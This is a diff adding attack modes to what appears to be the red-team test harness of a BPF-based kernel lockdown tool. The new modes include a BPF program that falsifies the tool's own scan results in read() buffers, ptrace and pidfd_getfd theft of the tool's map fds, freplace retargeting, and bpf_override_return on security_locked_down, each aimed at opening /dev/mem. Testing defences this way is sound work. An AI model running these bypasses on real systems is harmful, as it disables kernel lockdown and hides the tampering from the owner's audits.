@@ -24,10 +24,22 @@
  *                                    link from the ID walk (on the bpf LSM
  *                                    hook, or fmod_ret on security_bpf),
  *                                    holds both until FILE
+ *        attack --prewrite FILE      attaches one answering 1 << 32 now and
+ *                                    an fexit program on vfs_read that
+ *                                    rewrites the bypass scan's records
+ *                                    in lockdownctl's buffer, holds both
+ *                                    until FILE
  *        attack --stall-load FILE    loads one, held inside the kernel
  *                                    (after every load-time check, before
  *                                    it has an ID) until FILE exists, then
  *                                    attaches it
+ *        attack --set-traced guard|steal|state LEVEL
+ *                                    runs lockdownctl set LEVEL under
+ *                                    ptrace, takes fds to our maps before
+ *                                    the guard is armed, then uses them
+ *        attack --freplace-raise PIN extension of a decoy of root's,
+ *                                    attached to our raise_level; the
+ *                                    link pinned at PIN
  *        attack --stress SECONDS     raises, applies and probes at once
  *        attack --marker BUILD       prints the marker of that build at
  *                                    this ABI (build-ABI-BUILD)
@@ -51,7 +63,9 @@
 #include <sys/stat.h>
 #include <sys/utsname.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
 #include <sys/syscall.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <linux/bpf.h>
 #include <linux/userfaultfd.h>
@@ -769,6 +783,118 @@ static int prehide(const char *go, const char *variant)
 	return 0;
 }
 
+#define INSN(c, d, sr, o, i)                 \
+	((struct bpf_insn){ .code = (c),     \
+			    .dst_reg = (d),  \
+			    .src_reg = (sr), \
+			    .off = (o),      \
+			    .imm = (i) })
+
+/*
+ * Before lockdown, root attaches the bypass (fmod_ret on
+ * security_locked_down answering 1 << 32) and an fexit program on
+ * vfs_read() that, in what any read(2) returns, finds the records of the
+ * bypass scan (struct lockdown_scan_rec, by their magic) and rewrites the
+ * attach type BPF_MODIFY_RETURN to BPF_TRACE_FENTRY with
+ * bpf_probe_write_user() (loaded while nothing refuses it): every record
+ * stays, numbered as the kernel numbered it, but none names an fmod_ret
+ * program. Prints "PREWRITTEN" once /dev/mem opens with both attached,
+ * then holds them until @go exists.
+ */
+static int prewrite(const char *go)
+{
+	const __u32 rec = sizeof(struct lockdown_scan_rec);
+	const __s16 at = offsetof(struct lockdown_scan_rec, attach_type);
+	_Static_assert(sizeof(struct lockdown_scan_rec) == 32, "record");
+	const struct bpf_insn rewrite[] = {
+		/* r6 = buf (ctx[1]), r7 = returned (ctx[4]), r8 = 0 */
+		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_6, BPF_REG_1, 8, 0),
+		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_7, BPF_REG_1, 32, 0),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_8, 0, 0, 0),
+		/* 3, loop: while r8 <= 32 KiB and r8 + rec <= returned */
+		INSN(BPF_JMP | BPF_JGT | BPF_K, BPF_REG_8, 0, 24, 32768),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_9, BPF_REG_8, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_9, 0, 0, rec),
+		INSN(BPF_JMP | BPF_JSGT | BPF_X, BPF_REG_9, BPF_REG_7, 21, 0),
+		/* the record at buf + r8, to fp - 32 */
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_10, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, -32),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_2, 0, 0, rec),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_3, BPF_REG_6, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_3, BPF_REG_8, 0, 0),
+		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 14, 0),
+		/* 14: a scan record naming an fmod_ret program? */
+		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32, 0),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 10,
+		     LOCKDOWN_SCAN_MAGIC),
+		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32 + at,
+		     0),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 8,
+		     BPF_MODIFY_RETURN),
+		/* 18: then it names an fentry one */
+		INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -4,
+		     BPF_TRACE_FENTRY),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_6, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_1, BPF_REG_8, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, at),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -4),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_3, 0, 0, 4),
+		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_write_user),
+		/* 26, next */
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_8, 0, 0, rec),
+		INSN(BPF_JMP | BPF_JA, 0, 0, -25, 0),
+		/* 28, out */
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
+		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+	};
+	static char vlog[1 << 16];
+	int bypass, bypass_link, prog, link, mem;
+
+	bypass = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
+				BPF_MODIFY_RETURN, 1ULL << 32);
+	bypass_link = bypass < 0 ? -1
+				 : bpf_link_create(bypass, 0, BPF_MODIFY_RETURN,
+						   NULL);
+	if (bypass_link < 0) {
+		perror("attack: the fmod_ret program on security_locked_down");
+		return 2;
+	}
+	prog = load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
+			   BPF_TRACE_FEXIT, rewrite,
+			   sizeof(rewrite) / sizeof(rewrite[0]), NULL, 0, 0);
+	if (prog < 0) {
+		load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
+			    BPF_TRACE_FEXIT, rewrite,
+			    sizeof(rewrite) / sizeof(rewrite[0]), vlog,
+			    sizeof(vlog), 1);
+		perror("attack: loading the fexit program on vfs_read");
+		fprintf(stderr, "%.2000s\n", vlog);
+		return 2;
+	}
+	link = bpf_link_create(prog, 0, BPF_TRACE_FEXIT, NULL);
+	if (link < 0) {
+		perror("attack: attaching the fexit program on vfs_read");
+		return 2;
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	if (mem < 0) {
+		perror("attack: /dev/mem with the bypass attached");
+		return 2;
+	}
+	close(mem);
+	printf("PREWRITTEN fmod_ret:attached fexit_vfs_read:attached dev_mem:opened\n");
+	fflush(stdout);
+	while (access(go, F_OK))
+		usleep(100000);
+	close(link);
+	close(prog);
+	close(bypass_link);
+	close(bypass);
+	return 0;
+}
+
 /* A map pinned among ours under a marker's name could pass for a
  * generation of ours. */
 static int attack_plant_pin(void)
@@ -945,6 +1071,424 @@ static int stall_load(const char *go)
 			 mem >= 0 ? "opened" : strerror(mem_errno));
 	return report("inflight_load", link >= 0 || raw >= 0 || mem >= 0,
 		      detail);
+}
+
+/* An fd to the map of ours named @name, by ID (-1 when none answers). */
+static int map_named(const char *name)
+{
+	__u32 id = 0;
+
+	while (!bpf_map_get_next_id(id, &id)) {
+		struct bpf_map_info info = { 0 };
+		__u32 len = sizeof(info);
+		int fd = bpf_map_get_fd_by_id(id);
+
+		if (fd < 0)
+			continue;
+		if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
+		    !strcmp(info.name, name))
+			return fd;
+		close(fd);
+	}
+	return -1;
+}
+
+/* With lockdownctl (@pid) stopped at bpf(BPF_MAP_FREEZE, @attr): its
+ * own fd to the map being frozen, taken with pidfd_getfd() (no new bpf
+ * fd, so no bpf_map hook), when that map is the guard, armed; else -1. */
+static int steal_guard(pid_t pid, int *pidfd, unsigned long attr)
+{
+	struct bpf_map_info info = { 0 };
+	struct lockdown_guard g;
+	__u32 len = sizeof(info), zero = 0;
+	long word;
+	int fd;
+
+	errno = 0;
+	word = ptrace(PTRACE_PEEKDATA, pid, (void *)attr, NULL);
+	if (errno)
+		return -1;
+	if (*pidfd < 0)
+		*pidfd = syscall(SYS_pidfd_open, pid, 0);
+	fd = syscall(SYS_pidfd_getfd, *pidfd, (int)(__u32)word, 0);
+	if (fd < 0)
+		return -1;
+	if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
+	    !strcmp(info.name, "guard") &&
+	    !bpf_map_lookup_elem(fd, &zero, &g) && g.raise_prog)
+		return fd;
+	close(fd);
+	return -1;
+}
+
+/* Root's own syscall program: state[0].enforced and both policy slots'
+ * levels set to none, through @state (an fd to our state map). */
+static int load_state_writer(int state)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_10,
+		  .off = -4 },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_X,
+		  .dst_reg = BPF_REG_2,
+		  .src_reg = BPF_REG_10 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .imm = -4 },
+		{ .code = BPF_LD | BPF_DW | BPF_IMM,
+		  .dst_reg = BPF_REG_1,
+		  .src_reg = BPF_PSEUDO_MAP_FD,
+		  .imm = state },
+		{ 0 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_map_lookup_elem },
+		{ .code = BPF_JMP | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_0,
+		  .off = 3 },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, enforced) },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, slots[0].level) },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, slots[1].level) },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);
+
+	return bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_state", "GPL", insns,
+			     sizeof(insns) / sizeof(insns[0]), &opts);
+}
+
+/*
+ * Everything of ours is unguarded from its load until set arms the guard
+ * (the bpf_map and bpf_prog hooks refuse by the guard's lists, empty
+ * until then), and an fd taken meanwhile stays good. Root runs
+ * `lockdownctl set LEVEL` under ptrace (it could equally race it, or stop
+ * it with SIGSTOP) and, at each bpf(BPF_MAP_FREEZE) it makes:
+ * - the first (the state map's, in loader_load): takes fds to our guard
+ *   and state maps by ID, nothing armed yet;
+ * - the one after the guard is armed (the guard's own freeze, after the
+ *   second scan): @variant "guard" rewrites the guard through its fd with
+ *   every hook_btf_ids cleared, just before it is frozen. "steal" does the
+ *   same with lockdownctl's own fd, taken there with pidfd_getfd(): no fd
+ *   is created through bpf(2), and nothing before the arming is used.
+ * Once set has exited ("SET exit N" printed):
+ * - "guard": an LSM program of root's on bpf_lsm_locked_down answering
+ *   1 << 32 (which ends the chain before ours) is loaded and attached,
+ *   then /dev/mem opened;
+ * - "state": root's own syscall program, using the state map fd taken
+ *   before the guard, sets the enforced level and the policy's to none;
+ *   it is run, then /dev/mem opened.
+ * Breached when /dev/mem opens. Exits 2 when the set could not be traced
+ * or the fds not taken.
+ */
+static int set_traced(const char *variant, const char *level)
+{
+	int steal = !strcmp(variant, "steal"), pidfd = -1;
+	int guard_variant = steal || !strcmp(variant, "guard"), guard = -1,
+	    state = -1;
+	int freezes = 0, rewritten = 0, status, prog, link = -1, mem, err;
+	char detail[192];
+	pid_t pid;
+
+	if (!guard_variant && strcmp(variant, "state")) {
+		fprintf(stderr,
+			"attack: --set-traced guard|steal|state LEVEL\n");
+		return 2;
+	}
+	name_task("rt_set_traced");
+	pid = fork();
+	if (pid < 0)
+		return 2;
+	if (!pid) {
+		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
+		raise(SIGSTOP);
+		execlp("lockdownctl", "lockdownctl", "set", level,
+		       (char *)NULL);
+		_exit(127);
+	}
+	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status)) {
+		perror("attack: starting lockdownctl under ptrace");
+		return 2;
+	}
+	ptrace(PTRACE_SETOPTIONS, pid, NULL,
+	       (void *)(long)(PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL));
+	ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
+	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
+		struct user_regs_struct regs;
+		int sig = WSTOPSIG(status);
+
+		if (sig == (SIGTRAP | 0x80)) {
+			sig = 0;
+			/* At the entry of bpf(BPF_MAP_FREEZE, ...). */
+			if (!ptrace(PTRACE_GETREGS, pid, NULL, &regs) &&
+			    regs.orig_rax == __NR_bpf &&
+			    (long)regs.rax == -ENOSYS &&
+			    regs.rdi == BPF_MAP_FREEZE) {
+				struct lockdown_guard g;
+				__u32 zero = 0;
+
+				freezes++;
+				if (steal && guard < 0)
+					guard = steal_guard(pid, &pidfd,
+							    regs.rsi);
+				if (!steal && guard < 0)
+					guard = map_named("guard");
+				if (!steal && state < 0)
+					state = map_named("state");
+				if (guard_variant && guard >= 0 && !rewritten &&
+				    !bpf_map_lookup_elem(guard, &zero, &g) &&
+				    g.raise_prog) {
+					memset(g.hook_btf_ids, 0,
+					       sizeof(g.hook_btf_ids));
+					rewritten = !bpf_map_update_elem(
+						guard, &zero, &g, BPF_ANY);
+					if (!rewritten)
+						perror("attack: rewriting the guard");
+				}
+			}
+		} else if (sig == SIGTRAP) {
+			sig = 0; /* the exec */
+		}
+		ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig);
+	}
+	printf("SET exit %d freezes %d guard_fd:%s state_fd:%s rewritten:%s\n",
+	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status),
+	       freezes, guard >= 0 ? "taken" : "none",
+	       state >= 0 ? "taken" : "none", rewritten ? "yes" : "no");
+	fflush(stdout);
+	if (guard_variant && !rewritten) {
+		fprintf(stderr, "attack: the guard was not rewritten\n");
+		return 2;
+	}
+	if (!guard_variant && state < 0) {
+		fprintf(stderr, "attack: no fd to the state map\n");
+		return 2;
+	}
+	if (guard_variant) {
+		prog = load_returning("bpf_lsm_locked_down", BPF_PROG_TYPE_LSM,
+				      BPF_LSM_MAC, 1ULL << 32);
+		err = errno;
+		if (prog >= 0) {
+			link = bpf_link_create(prog, 0, BPF_LSM_MAC, NULL);
+			err = errno;
+		}
+		mem = open("/dev/mem", O_RDONLY);
+		snprintf(detail, sizeof(detail),
+			 "lsm_on_locked_down:%s attach:%s /dev/mem:%s",
+			 prog >= 0 ? "loaded" : strerror(err),
+			 link >= 0   ? "ok"
+			 : prog >= 0 ? strerror(err)
+				     : "no",
+			 mem >= 0 ? "opened" : strerror(errno));
+		printf("HELD link\n");
+		fflush(stdout);
+		report("guard_rewrite", mem >= 0, detail);
+		/* The link stays for the scenario's own checks. */
+		pause();
+		return 0;
+	}
+	prog = load_state_writer(state);
+	err = errno;
+	if (prog >= 0) {
+		LIBBPF_OPTS(bpf_test_run_opts, run);
+
+		if (bpf_prog_test_run_opts(prog, &run)) {
+			err = errno;
+			close(prog);
+			prog = -2;
+		}
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail), "state_writer:%s /dev/mem:%s",
+		 prog >= 0    ? "ran"
+		 : prog == -2 ? "not run"
+			      : strerror(err),
+		 mem >= 0 ? "opened" : strerror(errno));
+	return report("state_write", mem >= 0, detail);
+}
+
+/* What prog_raise_level (@fd) answers for LOCKDOWN_LEVEL_NONE: the level
+ * lockdownctl reads. */
+static void raise_run_level(int fd, __u32 *now)
+{
+	__u32 args = LOCKDOWN_LEVEL_NONE;
+	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &args,
+		    .ctx_size_in = sizeof(args));
+
+	if (!bpf_prog_test_run_opts(fd, &opts))
+		*now = opts.retval;
+}
+
+/*
+ * An extension program (freplace) is checked against its target at load
+ * only (check_load: dst_prog), but BPF_LINK_CREATE may give it another
+ * target (target_fd, target_btf_id), checked by the kernel's type rules
+ * alone. Root loads a decoy syscall program of its own shaped like
+ * prog_raise_level (int f(struct lockdown_raise_args *), whose fd is
+ * handed out by design), an extension of the decoy answering
+ * LOCKDOWN_LEVEL_CONFIDENTIALITY, and attaches the extension to our
+ * raise_level: every run of it, lockdownctl's reads of the level and its
+ * raises included, then runs root's code. The link is pinned at @pin.
+ * Breached when it attaches; the detail says what a run of our
+ * prog_raise_level answers for LOCKDOWN_LEVEL_NONE afterwards.
+ */
+static int freplace_retarget(const char *pin)
+{
+	const struct bpf_insn answer[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
+		  .dst_reg = BPF_REG_0,
+		  .imm = LOCKDOWN_LEVEL_CONFIDENTIALITY },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	struct bpf_func_info fi = { 0 };
+	struct btf *btf = btf__new_empty(), *ours = NULL;
+	int u32, st, ptr, proto, func, decoy = -1, ext = -1, link = -1;
+	int target = bpf_obj_get(RAISE_PIN), target_id = -1, err = 0;
+	struct bpf_prog_info info = { 0 };
+	__u32 len = sizeof(info), now = 0;
+	static char vlog[4096];
+	char detail[192];
+
+	if (target < 0 || !btf) {
+		perror("attack: prog_raise_level's pin");
+		return 2;
+	}
+	if (!bpf_prog_get_info_by_fd(target, &info, &len) && info.btf_id)
+		ours = btf__load_from_kernel_by_id(info.btf_id);
+	if (ours)
+		target_id = btf__find_by_name_kind(ours, "raise_level",
+						   BTF_KIND_FUNC);
+	btf__free(ours);
+	u32 = btf__add_int(btf, "unsigned int", 4, 0);
+	st = btf__add_struct(btf, "lockdown_raise_args", 4);
+	btf__add_field(btf, "level", u32, 0, 0);
+	ptr = btf__add_ptr(btf, st);
+	proto = btf__add_func_proto(
+		btf, btf__add_int(btf, "int", 4, BTF_INT_SIGNED));
+	btf__add_func_param(btf, "args", ptr);
+	func = btf__add_func(btf, "rt_decoy", BTF_FUNC_GLOBAL, proto);
+	/* From 6.8 a main program whose argument is not the context is
+	 * "unreliable" and cannot be replaced: say it is (ignored before). */
+	btf__add_decl_tag(btf, "arg:ctx", func, 0);
+	if (target_id < 0 || func < 0 || btf__load_into_kernel(btf)) {
+		fprintf(stderr, "attack: BTF for the decoy (target %d)\n",
+			target_id);
+		return 2;
+	}
+	fi.type_id = func;
+	LIBBPF_OPTS(bpf_prog_load_opts, dopts, .prog_btf_fd = btf__fd(btf),
+		    .func_info = &fi, .func_info_cnt = 1,
+		    .func_info_rec_size = sizeof(fi),
+		    .prog_flags = BPF_F_SLEEPABLE);
+	decoy = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_decoy", "GPL",
+			      return_zero, 2, &dopts);
+	if (decoy < 0) {
+		perror("attack: loading the decoy");
+		return 2;
+	}
+	LIBBPF_OPTS(bpf_prog_load_opts, eopts, .prog_btf_fd = btf__fd(btf),
+		    .func_info = &fi, .func_info_cnt = 1,
+		    .func_info_rec_size = sizeof(fi), .attach_prog_fd = decoy,
+		    .attach_btf_id = func, .log_buf = vlog,
+		    .log_size = sizeof(vlog), .log_level = 1);
+	ext = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL", answer, 2,
+			    &eopts);
+	if (ext < 0 && errno == EINVAL &&
+	    strstr(vlog, "Cannot replace static functions"))
+		/* Before 6.8 the kernel takes the main function of every
+		 * syscall program for "unreliable" (its argument is no
+		 * context type), ours as much as the decoy. */
+		return report("freplace_retarget", 0,
+			      "the kernel replaces no syscall program's main "
+			      "function (Cannot replace static functions)");
+	if (ext < 0) {
+		perror("attack: loading the extension of the decoy");
+		fprintf(stderr, "attack: the verifier's log: %s\n", vlog);
+		return 2;
+	}
+	LIBBPF_OPTS(bpf_link_create_opts, lopts, .target_btf_id = target_id);
+	link = bpf_link_create(ext, target, 0, &lopts);
+	err = errno;
+	if (link < 0) {
+		/* The kernel's reason, from the same check at load. */
+		LIBBPF_OPTS(bpf_prog_load_opts, topts,
+			    .prog_btf_fd = btf__fd(btf), .func_info = &fi,
+			    .func_info_cnt = 1,
+			    .func_info_rec_size = sizeof(fi),
+			    .attach_prog_fd = target,
+			    .attach_btf_id = target_id, .log_buf = vlog,
+			    .log_size = sizeof(vlog), .log_level = 1);
+		vlog[0] = 0;
+		int t = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL",
+				      answer, 2, &topts);
+		fprintf(stderr,
+			"attack: the same extension loaded on raise_level: %s; log: %s\n",
+			t >= 0 ? "loaded" : strerror(errno), vlog);
+		if (t >= 0)
+			close(t);
+	}
+	if (link >= 0 && pin)
+		bpf_obj_pin(link, pin);
+	raise_run_level(target, &now);
+	snprintf(
+		detail, sizeof(detail),
+		"BPF_LINK_CREATE(ext of decoy, target raise_level):%s raise_level(none) answers %u",
+		link >= 0 ? "attached" : strerror(err), now);
+	return report("freplace_retarget", link >= 0, detail);
+}
+
+/*
+ * bpf_override_return() from a kprobe (here kprobe.multi) on
+ * security_locked_down answering 0 would skip every LSM. It needs
+ * CONFIG_BPF_KPROBE_OVERRIDE (else the verifier knows no such helper) and
+ * a target on the error-injection list. Breached when it attaches and
+ * /dev/mem opens.
+ */
+static int attack_override_return(void)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_2 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_override_return },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	static char vlog[4096];
+	const char *sym = "security_locked_down";
+	char detail[192];
+	int prog, link = -1, mem, err;
+	LIBBPF_OPTS(bpf_prog_load_opts, opts,
+		    .expected_attach_type = BPF_TRACE_KPROBE_MULTI,
+		    .log_buf = vlog, .log_size = sizeof(vlog), .log_level = 1);
+	LIBBPF_OPTS(bpf_link_create_opts, lopts, .kprobe_multi.syms = &sym,
+		    .kprobe_multi.cnt = 1);
+
+	prog = bpf_prog_load(BPF_PROG_TYPE_KPROBE, "rt_override", "GPL", insns,
+			     4, &opts);
+	err = errno;
+	if (prog >= 0) {
+		link = bpf_link_create(prog, 0, BPF_TRACE_KPROBE_MULTI, &lopts);
+		err = errno;
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail), "load:%s%s attach:%s /dev/mem:%s",
+		 prog >= 0 ? "ok" : strerror(err),
+		 prog < 0 && strstr(vlog, "unknown func") ? " (no such helper)"
+							  : "",
+		 link >= 0   ? "ok"
+		 : prog >= 0 ? strerror(err)
+			     : "no",
+		 mem >= 0 ? "opened" : strerror(errno));
+	if (mem >= 0)
+		close(mem);
+	if (link >= 0)
+		close(link);
+	if (prog >= 0)
+		close(prog);
+	return report("override_return", mem >= 0, detail);
 }
 
 /*
@@ -1997,8 +2541,16 @@ int main(int argc, char **argv)
 		return preload(argv[2], 1);
 	if (argc == 4 && !strcmp(argv[1], "--prehide"))
 		return prehide(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "--prewrite"))
+		return prewrite(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "--stall-load"))
 		return stall_load(argv[2]);
+	if (argc == 2 && !strcmp(argv[1], "--override-return"))
+		return attack_override_return();
+	if (argc == 3 && !strcmp(argv[1], "--freplace-raise"))
+		return freplace_retarget(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "--set-traced"))
+		return set_traced(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stress"))
 		return stress(atoi(argv[2]));
 	if (argc == 3 && !strcmp(argv[1], "--marker"))
